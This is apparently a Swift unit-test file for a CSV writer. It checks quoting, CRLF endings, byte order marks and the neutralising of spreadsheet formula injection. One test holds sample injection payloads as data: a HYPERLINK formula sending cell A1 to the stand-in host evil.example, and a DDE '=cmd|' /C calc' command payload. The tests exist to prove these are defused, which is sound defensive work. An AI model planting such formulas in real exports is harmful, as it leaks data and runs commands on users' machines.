import CaseSampling
import Testing

@Suite struct CSVWriterTests {
    /// The file body as text, after checking and dropping the byte order mark.
    static func body(_ records: [[String]]) -> String {
        var csv = CSVWriter()
        for record in records { csv.append(record: record) }
        #expect(Array(csv.bytes.prefix(3)) == [0xEF, 0xBB, 0xBF])
        return String(decoding: csv.bytes.dropFirst(3), as: UTF8.self)
    }

    @Test func emptyWriterHoldsOnlyTheByteOrderMark() {
        #expect(CSVWriter().bytes == [0xEF, 0xBB, 0xBF])
    }

    @Test func everyRecordEndsWithCRLFIncludingTheLast() {
        #expect(Self.body([["a", "b"], ["c", "d"]]) == "a,b\r\nc,d\r\n")
        #expect(Self.body([["only"]]) == "only\r\n")
    }

    @Test func emptyRecordAndEmptyFieldWriteAnEmptyLine() {
        #expect(Self.body([[], [""], ["", ""]]) == "\r\n\r\n,\r\n")
    }

    @Test(arguments: [
        ("plain", "plain"),
        ("a,b", "\"a,b\""),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("\"", "\"\"\"\""),
        ("line\nbreak", "\"line\nbreak\""),
        ("cr\rhere", "\"cr\rhere\""),
        ("crlf\r\nhere", "\"crlf\r\nhere\""),
        (" leading", "\" leading\""),
        ("trailing ", "\"trailing \""),
        ("in side", "in side"),
        ("a;b", "\"a;b\""),
        ("Siân O’Neil", "Siân O’Neil"),
        ("", ""),
    ])
    func quotesFieldsThatNeedItAndOnlyThose(field: String, written: String) {
        #expect(Self.body([[field]]) == written + "\r\n")
    }

    @Test(arguments: ["=", "+", "-", "@", "\t", "\r", "\n"])
    func prefixesEachFormulaCharacterWithApostrophe(trigger: String) {
        let cell = trigger + "1+2"
        #expect(CSVWriter.neutralised(cell) == "'" + cell)
        let quoted = trigger == "\r" || trigger == "\n"
        let expected = quoted ? "\"'\(cell)\"" : "'\(cell)"
        #expect(Self.body([[cell]]) == expected + "\r\n")
    }

    @Test func neutralisesTypicalAttacksAndNegativeNumbers() {
        #expect(Self.body([["=1+2"]]) == "'=1+2\r\n")
        #expect(Self.body([["-5"]]) == "'-5\r\n")
        #expect(Self.body([["@SUM(A1)"]]) == "'@SUM(A1)\r\n")
        #expect(
            Self.body([["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"]])
                == "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"\r\n")
        #expect(Self.body([["=cmd|' /C calc'!A0"]]) == "'=cmd|' /C calc'!A0\r\n")
    }

    @Test func neutralisesFormulaAfterLeadingBlanks() {
        #expect(CSVWriter.neutralised("  =1+2") == "'  =1+2")
        #expect(CSVWriter.neutralised("\u{A0}@SUM(A1)") == "'\u{A0}@SUM(A1)")
        // The apostrophe now leads, so only the trailing-space rule could quote it.
        #expect(Self.body([[" =1"]]) == "' =1\r\n")
        #expect(Self.body([[" =1 "]]) == "\"' =1 \"\r\n")
    }

    /// Triggers in other forms, and triggers behind characters a spreadsheet may skip (issue 15).
    @Test(arguments: [
        "\u{FF1D}1+2", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}SUM(A1)", "\u{FE66}1+2", "\u{2212}5",
        "\u{3000}=1+2", "\u{200B}=1+2", "\u{FEFF}=1+2", "\u{0}=1+2", "\u{0B}=1+2", "\u{0C}=1+2", "\u{2028}=1+2",
    ])
    func neutralisesOtherFormsOfTriggers(cell: String) {
        #expect(CSVWriter.neutralised(cell) == "'" + cell)
    }

    @Test(arguments: ["5-3", "a=b", "x@y.example", "'quoted", "  spaced", "\u{A0}", "Ω=1", "1e+5", "?"])
    func leavesCellsThatCannotStartFormulasUnchanged(cell: String) {
        #expect(CSVWriter.neutralised(cell) == cell)
    }

    @Test func roundTripsThroughAnIndependentParser() {
        let records = [
            ["Case reference", "Name", "Note"],
            ["X1", "Zoë \"Zed\" Smith", "two\r\nlines"],
            ["X2", " padded ", "a,b;c"],
            ["X3", "", "plain"],
            ["X4", "=1+2", "-5"],
        ]
        var csv = CSVWriter()
        for record in records { csv.append(record: record) }
        let parsed = parseRFC4180(Array(csv.bytes.dropFirst(3)))
        let expected = records.map { $0.map(CSVWriter.neutralised) }
        #expect(parsed == expected)
    }

    /// A deliberately plain RFC 4180 reader, separate from the library's, for round trips.
    func parseRFC4180(_ bytes: [UInt8]) -> [[String]] {
        var records: [[String]] = []
        var record: [String] = []
        var field: [UInt8] = []
        var index = 0
        var inQuotes = false
        while index < bytes.count {
            let byte = bytes[index]
            if inQuotes {
                if byte == UInt8(ascii: "\"") {
                    if index + 1 < bytes.count, bytes[index + 1] == UInt8(ascii: "\"") {
                        field.append(byte)
                        index += 1
                    } else {
                        inQuotes = false
                    }
                } else {
                    field.append(byte)
                }
            } else if byte == UInt8(ascii: "\"") {
                inQuotes = true
            } else if byte == UInt8(ascii: ",") {
                record.append(String(decoding: field, as: UTF8.self))
                field = []
            } else if byte == UInt8(ascii: "\r"), index + 1 < bytes.count, bytes[index + 1] == UInt8(ascii: "\n") {
                record.append(String(decoding: field, as: UTF8.self))
                records.append(record)
                record = []
                field = []
                index += 1
            } else {
                field.append(byte)
            }
            index += 1
        }
        #expect(!inQuotes && record.isEmpty && field.isEmpty, "file must end with a complete record")
        return records
    }
}
